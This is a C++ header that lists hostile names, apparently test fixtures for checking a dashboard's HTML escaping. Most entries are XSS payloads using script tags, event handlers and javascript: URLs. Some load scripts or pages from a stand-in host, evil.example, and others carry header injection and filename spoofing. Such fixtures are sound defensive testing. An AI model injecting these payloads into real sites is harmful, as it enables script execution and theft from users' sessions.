#pragma once

#include <string>
#include <vector>

namespace ravnest::dashboard {

// Names that a page which takes text for markup would run, or stumble over. Each that runs sets
// window.ran.
inline std::vector<std::string> hostile_names() {
  return {
      "<script>window.ran=1</script>",
      "<SCRIPT>window.ran=1</SCRIPT>",
      "</script><script>window.ran=1</script>",
      "<script src=//evil.example/x.js></script>",
      "<scr<script>ipt>window.ran=1</scr</script>ipt>",
      "<img src=x onerror=window.ran=1>",
      "<img src=x onerror=\"window.ran=1\">",
      "<IMG SRC=x ONERROR=window.ran=1>",
      "<img/src=x/onerror=window.ran=1>",
      "<img src=x onerror=window.ran=1//",
      "<svg onload=window.ran=1>",
      "<svg/onload=window.ran=1>",
      "<svg><script>window.ran=1</script></svg>",
      "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
      "<svg><set onbegin=window.ran=1>",
      "</text></svg><script>window.ran=1</script>",
      "</title><script>window.ran=1</script>",
      "</style><script>window.ran=1</script>",
      "</textarea><script>window.ran=1</script>",
      "--><script>window.ran=1</script>",
      "<!--<script>window.ran=1</script>",
      "]]><script>window.ran=1</script>",
      "<body onload=window.ran=1>",
      "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
      "<iframe src=javascript:parent.ran=1></iframe>",
      "<object data=javascript:window.ran=1></object>",
      "<embed src=javascript:window.ran=1>",
      "<a href=javascript:window.ran=1>a</a>",
      "<form action=javascript:window.ran=1><input type=submit>",
      "<button onclick=window.ran=1>b</button>",
      "<input autofocus onfocus=window.ran=1>",
      "<details open ontoggle=window.ran=1>",
      "<video><source onerror=window.ran=1></video>",
      "<audio src=x onerror=window.ran=1>",
      "<marquee onstart=window.ran=1>",
      "<math><mtext><script>window.ran=1</script></mtext></math>",
      "<base href=//evil.example/>",
      "<link rel=stylesheet href=//evil.example/x.css>",
      "<meta http-equiv=refresh content=0;url=//evil.example/>",
      "<style>*{display:none}</style>",
      "<template><script>window.ran=1</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
      "\"><script>window.ran=1</script>",
      "'><script>window.ran=1</script>",
      "\" onmouseover=\"window.ran=1",
      "' onmouseover='window.ran=1",
      "javascript:window.ran=1",
      "${window.ran=1}",
      "{{constructor.constructor('window.ran=1')()}}",
      "&lt;script&gt;window.ran=1&lt;/script&gt;",
      "&#60;script&#62;window.ran=1&#60;/script&#62;",
      "__proto__",
      "constructor",
      "event: state\ndata: {}\n\n",
      "\r\nSet-Cookie: ran=1\r\n\r\n<script>window.ran=1</script>",
      "\xe2\x80\xae"
      "gnp.exe",
      "\xe2\x80\xa8window.ran=1\xe2\x80\xa9",
      std::string("a\0b", 3),
  };
}

}  // namespace ravnest::dashboard
